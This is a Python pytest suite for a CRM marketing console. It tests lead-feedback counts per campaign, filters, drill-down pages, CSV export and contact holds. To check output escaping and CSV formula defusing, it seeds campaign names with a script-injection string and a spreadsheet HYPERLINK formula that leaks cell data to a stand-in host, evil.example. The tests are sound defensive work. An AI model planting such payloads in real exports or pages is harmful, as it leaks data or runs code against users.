"""Marketing's console pages over real HTTP: lead feedback per campaign with the same numbers
as the API and `report leads`, its filters, the drill-down with the reps' reasons, CSV that
spreadsheets open safely, and the holds."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import timedelta
from html import unescape
from typing import Any

import httpx
import pytest

from server.auth import AuthService
from server.cli import main as server_main
from server.ingest import ApiKeys
from server.records import ScopedRecords
from tests.helpers.console import ConsoleBrowser, signed_in, table_rows
from tests.server.conftest import PASSWORD, Clock
from tests.server.console.conftest import ADMIN, MARKETING
from tests.server.test_ingest import Customers, bearer

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
SCRIPT = "</script><script>alert(1)</script>"
COUNTS = ("handed_over", "undecided", "accepted", "rejected", "won", "lost", "no_decision")
# The campaign table's columns that hold counts, by position (0 is the campaign's name).
TABLE_COUNTS = {"handed_over": 1, "undecided": 2, "accepted": 3, "rejected": 4, "won": 7,
                "lost": 8, "no_decision": 9}  # fmt: skip


def write(
    auth: AuthService, entity: str, territory: str, data: dict[str, Any], deleted: bool = False
) -> uuid.UUID:
    record_id = uuid.uuid4()
    with auth.store.session() as session:
        records = ScopedRecords(session, frozenset({territory}), auth.clock)
        record = records.create(entity, record_id, territory, data)
        if deleted:
            record.deleted_at = auth.clock()
            records.save(record)
    return record_id


class Leads:
    """Leads in north (Acme, Zoë) and south (Südwerk, Ida), decided every way."""

    def __init__(self, auth: AuthService) -> None:
        self.customers = customers = Customers(auth)

        def lead(
            territory: str, day: str, campaign: str | None, deleted: bool = False, **fields: Any
        ) -> uuid.UUID:
            north = territory == "north"
            data = {
                "account_id": str(customers.acme if north else customers.suedwerk),
                "contact_id": str(customers.zoe if north else customers.ida),
                "campaign": campaign,
                "handed_over_at": f"{day}T09:30:00+01:00",
                "decided_by": ("ana" if north else "ben") if "status" in fields else None,
                **fields,
            }
            return write(auth, "lead", territory, data, deleted)

        lead("north", "2026-11-02", "webinar", status="accepted", outcome="won")
        lead("north", "2026-11-05", "webinar", status="accepted", outcome="lost",
             outcome_reason="-10% was not enough")  # fmt: skip
        lead("north", "2026-11-10", "webinar", status="rejected", reject_reason="no_budget",
             decision_note="frozen until 2028")  # fmt: skip
        lead("north", "2026-11-20", "webinar")
        lead("north", "2026-10-15", "ebook", status="rejected", reject_reason="bad_timing")
        lead("north", "2026-11-21", HYPERLINK, status="accepted", outcome="no_decision")
        lead("north", "2026-11-01", SCRIPT)
        # 00:30 on the 1st in Berlin is still October 31 in UTC, where the filter's days are.
        lead("south", "2026-11-01T00:30:00+01:00"[:10], "webinar", status="rejected",
             reject_reason="no_budget", handed_over_at="2026-11-01T00:30:00+01:00")  # fmt: skip
        lead("south", "2026-11-12", "ebook", status="accepted", outcome="won")
        lead("south", "2026-11-22", None)
        # A deleted lead counts nowhere.
        lead("south", "2026-11-12", "ebook", deleted=True, status="accepted", outcome="won")


@pytest.fixture
def leads(console_auth: AuthService) -> Leads:
    return Leads(console_auth)


@pytest.fixture
def marketing(console_url: str, leads: Leads) -> Iterator[ConsoleBrowser]:
    with signed_in(console_url, MARKETING, PASSWORD) as browser:
        yield browser


@pytest.fixture
def api_key(console_auth: AuthService) -> str:
    return ApiKeys(console_auth.store, console_auth.clock).add("hubspot")


def console_counts(page: str) -> dict[str, dict[str, int]]:
    """Per campaign, the counts of the console's table (its body rows)."""
    rows = table_rows(page, "campaigns")[1:-1]  # not the header, not the totals
    return {
        row[0]: {name: int(row[at].replace(",", "")) for name, at in TABLE_COUNTS.items()}
        for row in rows
    }


def test_the_console_shows_the_numbers_of_the_api_and_of_report_leads(
    marketing: ConsoleBrowser,
    console_url: str,
    api_key: str,
    console_auth: AuthService,
    capsys: pytest.CaptureFixture[str],
) -> None:
    page = marketing.get("/console/leads")
    assert page.status_code == 200, page.text[:500]
    shown = console_counts(page.text)
    with httpx.Client(base_url=console_url, timeout=10) as api:
        report = api.get("/v1/marketing/lead-feedback", headers=bearer(api_key)).json()
        api_csv = api.get("/v1/marketing/lead-feedback.csv", headers=bearer(api_key)).text
    from_api = {c["campaign"]: {name: c[name] for name in COUNTS} for c in report["campaigns"]}
    assert shown == from_api
    assert list(shown) == [c["campaign"] for c in report["campaigns"]]  # busiest first, alike
    assert shown["webinar"] == {"handed_over": 5, "undecided": 1, "accepted": 2, "rejected": 2,
                                "won": 1, "lost": 1, "no_decision": 0}  # fmt: skip
    reasons = {row[0]: row[6] for row in table_rows(page.text, "campaigns")[1:-1]}
    assert reasons["webinar"] == "No budget 2" and reasons["ebook"] == "Bad timing 1"
    totals = table_rows(page.text, "campaigns")[-1]
    assert totals[0] == "All campaigns" and totals[1] == "10"

    console_csv = marketing.get("/console/leads.csv")
    assert console_csv.headers["content-type"].startswith("text/csv")
    assert "attachment" in console_csv.headers["content-disposition"]
    assert console_csv.text == api_csv

    url = console_auth.store.engine.url.render_as_string(hide_password=False)
    assert server_main(["--database-url", url, "report", "leads", "--csv"]) == 0
    assert capsys.readouterr().out.rstrip("\n") == api_csv.rstrip("\n")
    assert server_main(["--database-url", url, "report", "leads"]) == 0
    table = capsys.readouterr().out.splitlines()[1:]
    from_cli = {}
    for line in table:  # campaign (28 wide), leads, open, acc., rej., won, lost, reason
        numbers = [int(n) for n in line[28:].split()[:6]]
        from_cli[line[:28].strip()] = dict(
            zip(
                ("handed_over", "undecided", "accepted", "rejected", "won", "lost"),
                numbers,
                strict=True,
            )
        )
    assert from_cli == {
        name[:28]: {k: v for k, v in counts.items() if k != "no_decision"}
        for name, counts in shown.items()
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (
            {"territory": "north"},
            {"webinar": (4, 1, 2, 1, 1, 1, 0), "ebook": (1, 0, 0, 1, 0, 0, 0),
             HYPERLINK: (1, 0, 1, 0, 0, 0, 1), SCRIPT: (1, 1, 0, 0, 0, 0, 0)},
        ),
        (
            {"from": "2026-11-01", "to": "2026-11-12"},
            {"webinar": (3, 0, 2, 1, 1, 1, 0), "ebook": (1, 0, 1, 0, 1, 0, 0),
             SCRIPT: (1, 1, 0, 0, 0, 0, 0)},
        ),
        (
            {"from": "2026-10-31", "to": "2026-10-31"},  # UTC days: Berlin's Nov 1, 00:30
            {"webinar": (1, 0, 0, 1, 0, 0, 0)},
        ),
        ({"from": "2026-11-02", "territory": "south"},
         {"ebook": (1, 0, 1, 0, 1, 0, 0), "(no campaign)": (1, 1, 0, 0, 0, 0, 0)}),
        ({"to": "2026-10-01"}, {}),
    ],
)  # fmt: skip
def test_the_filters_count_only_the_leads_of_their_days_and_territory(
    marketing: ConsoleBrowser,
    query: dict[str, str],
    expected: dict[str, tuple[int, ...]],
) -> None:
    page = marketing.get("/console/leads", **query)
    assert page.status_code == 200, page.text[:500]
    if not expected:
        assert "No leads were handed over" in page.text and 'id="campaigns"' not in page.text
    else:
        assert console_counts(page.text) == {
            name: dict(zip(COUNTS, counts, strict=True)) for name, counts in expected.items()
        }
    sheet = marketing.get("/console/leads.csv", **query)
    rows = {r["campaign"]: r for r in csv.DictReader(io.StringIO(sheet.text))}
    assert {name.lstrip("'") for name in rows} == set(expected)
    for name, counts in expected.items():
        row = rows["'" + name if name.startswith("=") else name]
        assert tuple(int(row[c]) for c in COUNTS) == counts


def test_a_campaign_drills_down_to_its_leads_with_the_reps_reasons(
    marketing: ConsoleBrowser,
) -> None:
    listed = marketing.get("/console/leads", territory="north")
    link = next(
        part.split('"', 1)[0]
        for part in listed.text.split('<a href="')[1:]
        if part.startswith("/console/leads/campaign?campaign=webinar&")
    )
    assert "territory=north" in link
    page = marketing.get(link.replace("&amp;", "&"))
    assert page.status_code == 200, page.text[:500]
    rows = table_rows(page.text, "table-0")
    header, body = rows[0], rows[1:]
    assert header == ["Handed over", "Account", "Contact", "Territory", "Score", "Decision",
                      "Reason", "Rep's note", "Outcome"]  # fmt: skip
    assert [row[0] for row in body] == ["2026-11-20", "2026-11-10", "2026-11-05", "2026-11-02"]
    assert body[1][1:] == ["Acme", "Zoë Berg", "north", "", "Rejected by ana", "No budget",
                           "frozen until 2028", ""]  # fmt: skip
    assert body[2][-1] == "Lost: -10% was not enough" and body[3][-1] == "Won"
    assert body[0][5] == "Open"
    assert "Zoe.Berg@acme.example" not in page.text  # marketing's own system has the e-mail

    sheet = marketing.get(
        "/console/leads/campaign.csv", campaign="webinar", territory="north", to="2026-11-05"
    )
    assert sheet.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(sheet.text)))
    assert [line["handed_over"] for line in lines] == ["2026-11-05", "2026-11-02"]
    assert lines[0]["outcome_reason"] == "'-10% was not enough"  # a formula start, defused

    empty = marketing.get("/console/leads/campaign", campaign="no such campaign")
    assert empty.status_code == 200 and "No leads of this campaign" in empty.text


def test_names_from_outside_are_escaped_on_pages_and_defused_in_csv(
    marketing: ConsoleBrowser,
) -> None:
    page = marketing.get("/console/leads")
    assert SCRIPT not in page.text and "alert(1)" in page.text  # shown as text, not run
    assert page.text.count("</script>") == page.text.count("<script")
    funnel = page.text.split('<script type="application/json" id="funnel-data">', 1)[1]
    assert "</" not in funnel.split("</script>", 1)[0]
    sheet = marketing.get("/console/leads.csv").text
    assert "\"'=HYPERLINK(" in sheet and '\n"=HYPERLINK' not in sheet


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ({"from": "2026-11-20", "to": "2026-11-01"}, "The range ends before it starts"),
        ({"from": "1 Nov"}, "From: give a day such as 2026-11-01, not '1 Nov'"),
        ({"to": "2026-02-30"}, "To: give a day such as"),
        ({"territory": "atlantis"}, "There is no territory 'atlantis'."),
        ({"territory": "t" * 101}, "Territory: String should have at most 100 characters."),
    ],
)
def test_a_bad_filter_is_refused_in_words(
    marketing: ConsoleBrowser, query: dict[str, str], said: str
) -> None:
    page = marketing.get("/console/leads", **query)
    assert page.status_code == 400 and said in unescape(page.text), page.text[:800]
    assert 'id="campaigns"' not in page.text
    sheet = marketing.get("/console/leads.csv", **query)
    assert sheet.status_code == 400 and said in unescape(sheet.text)
    assert sheet.headers["content-type"].startswith("text/html")


def test_the_holds_page_lists_the_running_holds_as_the_api_does(
    console_url: str, console_auth: AuthService, leads: Leads, clock: Clock, api_key: str
) -> None:
    customers = leads.customers
    until = clock().date() + timedelta(days=30)
    write(console_auth, "contact_hold", "north", {
        "account_id": str(customers.acme), "contact_id": str(customers.zoe),
        "campaign": "spring-promo", "reason": "in negotiation", "expires_on": until.isoformat(),
        "requested_by": "ana"})  # fmt: skip
    write(console_auth, "contact_hold", "south", {
        "account_id": str(customers.suedwerk), "contact_id": str(customers.ida),
        "campaign": None, "reason": None, "requested_by": "ben",
        "expires_on": (clock().date() - timedelta(days=1)).isoformat()})  # fmt: skip
    with signed_in(console_url, ADMIN, PASSWORD) as browser:
        page = browser.get("/console/holds")
        assert page.status_code == 200
        rows = table_rows(page.text, "table-0")[1:]
        assert rows == [["Zoë Berg", "Zoe.Berg@acme.example", "Acme", "spring-promo",
                         until.isoformat(), "ana", "in negotiation"]]  # fmt: skip
        with httpx.Client(base_url=console_url, timeout=10) as api:
            held = api.get("/v1/marketing/suppressions", headers=bearer(api_key)).json()
        assert [(s["contact_name"], s["until"]) for s in held["suppressions"]] == [
            (row[0], row[4]) for row in rows
        ]
    clock.advance(days=31)  # the hold has run out (and so has that session)
    with signed_in(console_url, ADMIN, PASSWORD) as browser:
        assert "No contact is on hold today." in browser.get("/console/holds").text
